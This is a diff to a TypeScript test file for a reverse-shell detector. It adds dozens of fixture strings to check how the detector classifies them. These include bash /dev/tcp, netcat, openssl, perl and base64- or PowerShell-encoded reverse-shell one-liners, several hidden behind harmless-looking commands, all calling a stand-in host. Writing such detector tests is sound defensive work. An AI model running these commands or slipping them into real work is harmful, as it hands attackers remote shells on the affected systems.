@@ -27,7 +27,55 @@ const CERTAIN = [
   'sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d | bash',
   'grep x $(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)',
 ];
-const UNCERTAIN = ["bash -c '</dev/tcp/db/5432'", 'python3 -c \'import pty; pty.spawn("/bin/bash")\''];
+const BASE64 = (text: string, encoding: 'utf8' | 'latin1' | 'utf16le' = 'utf8'): string =>
+  Buffer.from(text, encoding).toString('base64');
+const PAYLOAD = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
+const OF_BOOKS = [
+  'bash -c bash -i &>/dev/tcp/203.0.113.9/4444 <&1',
+  'bash -c exec bash -i &>/dev/tcp/203.0.113.9/4444 <&1',
+  'bash -c bash </dev/tcp/203.0.113.9/4444',
+  'bash -c bash -s 0</dev/tcp/203.0.113.9/4444',
+  'bash -c sh</dev/tcp/203.0.113.9/4444',
+  'bash -c /bin/bash <> /dev/tcp/203.0.113.9/4444 >&0',
+  'bash -c bash < /dev/tcp/203.0.113.9/4444 > /dev/tcp/203.0.113.9/4445',
+  'bash -c source /dev/tcp/203.0.113.9/4444',
+  'bash -c ls; . /dev/tcp/203.0.113.9/4444',
+  'bash -c eval "$(cat </dev/tcp/203.0.113.9/4444)"',
+  'bash -c bash -c "$(cat < /dev/tcp/203.0.113.9/4444)"',
+  'bash -c bash <(cat </dev/tcp/203.0.113.9/4444)',
+  'nc 203.0.113.9 4444 -e/bin/sh',
+  'nc 203.0.113.9 4444 -vesh',
+  'ncat -c/bin/bash 203.0.113.9 4444',
+  'sh -c openssl s_client -quiet -connect 203.0.113.9:44|/bin/sh|openssl s_client -quiet -connect 203.0.113.9:45',
+  'perl -MIO -e $p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
+  'perl -MSocket -MIO -e \'$c=IO::Socket::INET->new("203.0.113.9:4444");while(<$c>){system $_}\'',
+  `sh -c echo ${BASE64(`${PAYLOAD} # \u00e9`)} | base64 -d | bash`,
+  `sh -c echo ${BASE64(`${PAYLOAD} # \u00e9\u00ff`, 'latin1')} | base64 -d | bash`,
+  `sh -c echo ${`${'a'.repeat(16)} `.repeat(8)}>/dev/null; echo ${BASE64(PAYLOAD)}|base64 -d|bash`,
+  `sh -c echo "${BASE64(PAYLOAD).slice(0, 20)}""${BASE64(PAYLOAD).slice(20)}"|base64 -d|bash`,
+  `pwsh -enc ${BASE64('$c=New-Object Net.Sockets.TCPClient("203.0.113.9",4444);iex $c.GetStream()', 'utf16le')}`,
+];
+const HIDDEN = [
+  'bash -c ls|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'bash -c ls\t|\tbash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'bash -c ls > >(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)',
+  'bash -c ls "`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`"',
+  'bash -c grep x /etc/hosts|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'bash -c grep x|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'sh -c stat f|nc 203.0.113.9 4444 -e /bin/sh',
+  'sh -c ps|nc 203.0.113.9 4444 -e sh',
+  'sudo -u root bash -c "ls|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
+  'sh -c bash -c "ls; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
+];
+const UNCERTAIN = [
+  'sh -c timeout 1 bash -c "</dev/tcp/db/5432"',
+  'bash -c cat < /dev/null > /dev/tcp/db/5432',
+  'bash -c until </dev/tcp/db/5432; do sleep 1; done; exec bash -ic run',
+  'bash -c ./wait.sh </dev/tcp/db/5432',
+  'bash -c echo bash </etc/hosts >/dev/tcp/db/5432',
+  "bash -c '</dev/tcp/db/5432'",
+  'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
+];
 const NONE = [
   'bash',
   'bash -i',
@@ -46,11 +94,30 @@ const NONE = [
   'openssl s_client -connect db:5432',
   'perl -e print "hello"',
   'php artisan queue:restart',
+  'sh -c grep -rE "nc -e /bin/sh|bash -i" /',
+  'grep -rE bash -i >& /dev/tcp/|nc -e /bin/sh /var/log',
+  'sh -c ps aux|grep "nc -e /bin/sh"',
+  'sh -c echo /dev/tcp',
+  'which nc',
+  'nc -w5 db 5432',
+  'nc -zve db 5432',
+  'openssl s_client -connect db:5432 | sh -c cat',
+  'perl -MIO::Socket -e print "hello"',
+  'bash -c bash </etc/hosts',
+  'bash -c source /dev/stdin',
+  `cat ${BASE64('a document about nothing in particular')}`,
+  `cat /app/${'a'.repeat(64)}`,
 ];
 
 describe('a reverse shell in a command line', () => {
   for (const line of CERTAIN) {
     it(`is certain: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
+  }
+  for (const line of OF_BOOKS) {
+    it(`is certain as it is written in books: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, true));
+  }
+  for (const line of HIDDEN) {
+    it(`is certain behind what only looks: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, true));
   }
   for (const line of UNCERTAIN) {
     it(`is possible: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, false));
